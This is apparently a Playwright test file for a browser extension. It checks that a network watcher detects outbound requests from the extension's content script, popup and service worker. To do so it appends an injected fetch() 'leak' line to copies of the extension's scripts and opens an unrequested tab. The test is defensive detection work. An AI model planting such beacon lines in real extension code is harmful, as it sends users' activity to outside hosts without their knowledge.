/**
 * Every browser test ends with the question whether the extension sent anything. Here the watch
 * that answers it is seen to find what a script, a page or the worker of ours would send.
 */
import { copyBuild } from '../../scripts/lib/copy-build';
import { wizard } from './autofill-helpers';
import { expect, launch, test } from './fixtures';
import { watchNetwork } from './network-watch';

/** Stands in for a leak: as a stranger would write it into one of our scripts. */
const leak = (where: string) => `;fetch('https://beian.aliyun.com/leak/${where}').catch(() => 0);`;

/** A copy of the build that sends from its content script and its popup's script. */
function leakingBuild(): string {
  const copy = copyBuild();
  copy.file('content-scripts/console.js', (code) => code + leak('console'));
  // The policy would refuse the popup's; whether it was tried to be sent is another proof.
  copy.manifest((manifest) => {
    manifest.content_security_policy.extension_pages = "script-src 'self'";
  });
  copy.file('popup.html', (html) => {
    const [, script = ''] = /src="\/([^"]+\.js)"/.exec(html) ?? [];
    copy.file(script, (code) => code + leak('popup'));
    return html;
  });
  return copy.folder;
}

test('a request from a script, a page or the worker of ours is seen as ours', async () => {
  const launched = await launch({ extensionPath: leakingBuild() });
  const { context, extensionId } = launched;
  const network = watchNetwork(context, extensionId);
  try {
    await context.route(/^https:/u, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><img src="/own.png">' }),
    );
    const page = await context.newPage();
    await network.own(page);
    await page.goto(wizard);
    const popup = await context.newPage();
    await network.own(popup);
    await popup.goto(`chrome-extension://${extensionId}/popup.html`);
    await popup.evaluate(() => {
      const api = (globalThis as unknown as { chrome: typeof chrome }).chrome;
      void api.tabs.create({ url: 'https://unasked.example.cn/' });
    });
    await launched.worker.evaluate(leak('worker'));
    const places = [
      /console\.js on a page: .*leak\/console/,
      /popup\.html: .*leak\/popup/,
      /\.js on a page: .*leak\/popup/,
      /service worker: .*leak\/worker/,
      /nobody asked for: .*unasked\.example/,
    ];
    for (const place of places) {
      await expect.poll(() => network.made.join('\n')).toMatch(place);
    }
    expect(network.made.join('\n')).not.toContain('own.png');
    network.ask('unasked.example.cn');
    expect(network.made.join('\n')).not.toContain('unasked');
  } finally {
    network.stop();
    await launched.close();
  }
});
